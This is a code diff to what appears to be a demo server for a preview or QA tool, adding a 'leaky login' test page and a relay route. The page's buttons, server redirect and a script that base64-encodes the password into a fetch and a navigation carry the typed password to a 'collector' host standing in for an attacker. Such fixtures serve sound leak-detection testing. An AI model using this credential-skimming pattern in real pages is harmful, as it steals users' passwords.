@@ -7,7 +7,7 @@ import secrets
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any, Self, cast
-from urllib.parse import parse_qs, urlencode, urlsplit
+from urllib.parse import parse_qs, quote, urlencode, urlsplit
 
 from preview_qa.demo import todo
 
@@ -131,6 +131,26 @@ _EXTERNAL = _page(
     "External link - Acme",
     '<h1>External link</h1><p><a href="http://example.invalid/">Leave site</a></p>',
 )
+
+COLLECTOR_HOST = "localhost"  # the same server under a second host name: an attacker's, for the secret-leak pages
+
+
+def _leaky_page(collector: str) -> bytes:
+    """A login whose buttons carry the password off the preview: a form posting to another host, a form whose server
+    redirects there, and a script that sends it (base64 in a fetch's body, then in the URL of a navigation)."""
+    return _page(
+        "Leaky login - Acme",
+        '<h1>Leaky login</h1><form method="get" action="/relay">'
+        '<label for="password">Password</label><input id="password" name="pw" type="password" placeholder="Password">'
+        f'<button formaction="{collector}/collect">Sign in elsewhere</button>'
+        '<button>Sign in via relay</button>'
+        '<button type="button" onclick="leak()">Continue</button></form>',
+        script=f"function leak() {{ var v = document.getElementById('password').value;"
+               f" fetch('{collector}/collect', {{method: 'POST', mode: 'no-cors', body: btoa(v)}})"
+               f".catch(function () {{}}).finally(function () {{"
+               f" location.href = '{collector}/collect?v=' + encodeURIComponent(v); }}); }}",
+    )
+
 
 _APP_LOGIN = _page(
     "Log in - Acme app",
@@ -291,6 +311,12 @@ class _Handler(BaseHTTPRequestHandler):
             self._send(200, _page(title, body, script=script))
         elif path == "/search":
             self._send(200, _search_page((query.get("code") or [""])[0], self.headers.get("X-Preview-Token", "")))
+        elif path in ("/leaky", "/relay"):
+            collector = f"http://{COLLECTOR_HOST}:{self.server.server_address[1]}"
+            if path == "/leaky":
+                self._send(200, _leaky_page(collector))
+            else:  # the preview's own server sends the password on
+                self._send(302, b"", {"Location": f"{collector}/collect?v={quote((query.get('pw') or [''])[0])}"})
         elif path == "/app/login":
             self._send(200, _APP_LOGIN)
         elif path in APP_PAGES:
